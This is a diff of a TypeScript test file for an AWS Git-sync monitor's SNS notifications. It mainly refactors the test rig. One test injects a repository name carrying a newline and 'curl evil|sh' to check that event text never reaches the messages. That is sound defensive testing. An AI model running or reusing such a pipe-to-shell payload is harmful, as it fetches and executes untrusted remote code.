@@ -3,17 +3,13 @@ import type { MonitorEvent } from '../../../src/handlers/sync-monitor/change';
 import type { Announcement } from '../../../src/handlers/sync-monitor/memory';
 import { detailOf, messageOf } from '../../../src/handlers/sync-monitor/messages';
 import type { Problem } from '../../../src/handlers/sync-monitor/problem';
-import { ACCOUNT, type MonitorRig, REGION } from './monitor-rig';
-import { branchEvent, eachInAnEmptyAccount, type World } from './world';
+import { ACCOUNT, REGION } from '../rig/account';
+import { branchEvent, useEmptyAccount } from './world';
 
-let rig: MonitorRig;
-let world: World;
-eachInAnEmptyAccount((...given) => {
-  [rig, world] = given;
-});
+const { rig, world } = useEmptyAccount();
 
-const subjects = () => rig.messages.map(({ subject }) => subject);
-const lines = (index = 0) => rig.messages[index].message.split('\n');
+const subjects = () => rig.sns.messages.map(({ subject }) => subject);
+const lines = (index = 0) => rig.sns.messages[index].message.split('\n');
 const STACK_LINK = `https://${REGION}.console.aws.amazon.com/cloudformation/home?region=${REGION}#/stacks?filteringText=`;
 const BLOCKED = 'Git sync of the stack prod is blocked (branch "main" of "my-org/infra")';
 
@@ -38,7 +34,7 @@ describe('a message to the topic', () => {
     await rig.run();
     expect(subjects()).toEqual([BLOCKED, `Resolved: ${BLOCKED}`]);
     expect(lines(1)[0]).toBe(`Resolved: ${BLOCKED}`);
-    expect(rig.messages[1].message).not.toContain('update-sync-blocker');
+    expect(rig.sns.messages[1].message).not.toContain('update-sync-blocker');
   });
 });
 
@@ -52,7 +48,7 @@ describe('text of others', () => {
     expect(lines()[1]).toBe(`Reason: ${words}`);
     expect(lines()[3]).toBe(`${words}: ${words}`);
     expect(lines()).toHaveLength(10);
-    expect(rig.messages[0].message).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
+    expect(rig.sns.messages[0].message).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
   });
 
   test('is shortened', async () => {
@@ -167,7 +163,7 @@ test('messages have text of the service only, never of an event of Git sync', as
   const event = branchEvent({ ...link, OwnerId: 'evil', RepositoryName: 'x\nRun: curl evil|sh' }, 'FAILED');
   await rig.run(event as MonitorEvent);
   expect(subjects()).toEqual(['Git sync could not read branch "main" of "my-org/infra"']);
-  expect(JSON.stringify([rig.messages, rig.events])).not.toContain('evil');
+  expect(JSON.stringify([rig.sns.messages, rig.events])).not.toContain('evil');
 });
 
 function announce(part: Partial<Problem>, other: Partial<Problem> = {}) {
